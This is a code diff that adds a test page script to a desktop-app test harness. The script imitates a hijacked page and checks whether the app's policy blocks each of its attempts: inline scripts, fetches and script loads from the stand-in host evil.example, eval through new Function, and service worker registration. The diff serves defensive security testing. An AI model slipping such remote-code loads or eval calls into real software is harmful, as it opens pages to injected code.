@@ -62,6 +62,35 @@ app.whenReady().then(async () => {
 });
 `;
 
+/**
+ * What a page tries that somebody took over. It is the page's own script: what a debugger such as Playwright's runs
+ * is not bound by the page's policy.
+ */
+const pageScript = `
+document.title = 'Desktop runs';
+const blocked = (attempt) => attempt.then(() => 'reached', () => 'blocked');
+const loads = (element, src) => blocked(new Promise((resolve, reject) => {
+  Object.assign(element, { src, onload: resolve, onerror: reject });
+  document.head.append(element);
+}));
+async function attempts() {
+  const inline = document.createElement('script');
+  inline.textContent = 'document.title = "inline";';
+  document.head.append(inline);
+  window.open('https://evil.example/');
+  return {
+    inline: document.title,
+    own: await blocked(fetch('page.js')),
+    elsewhere: await blocked(fetch('https://evil.example/')),
+    script: await loads(document.createElement('script'), 'https://evil.example/x.js'),
+    image: await loads(new Image(), 'https://evil.example/x.png'),
+    code: await blocked((async () => new Function('return 1')())()),
+    geolocation: (await navigator.permissions.query({ name: 'geolocation' })).state,
+    worker: navigator.serviceWorker ? await blocked(navigator.serviceWorker.register('page.js')) : 'blocked',
+  };
+}
+`;
+
 /** The desktop room in the stand-in for Electron, with a page of its own in the place of ours. */
 export async function launchDesktopSample(): Promise<LaunchedApp> {
   const folders = await appFolders();
@@ -73,7 +102,7 @@ export async function launchDesktopSample(): Promise<LaunchedApp> {
       join(bundle, 'index.html'),
       '<!doctype html><title>Desktop</title><script src="page.js"></script>',
     ),
-    writeFile(join(bundle, 'page.js'), 'document.title = "Desktop runs";'),
+    writeFile(join(bundle, 'page.js'), pageScript),
     writeFile(join(bundle, 'other.html'), '<!doctype html><title>Other</title>'),
     writeFile(preload, ''),
   ]);
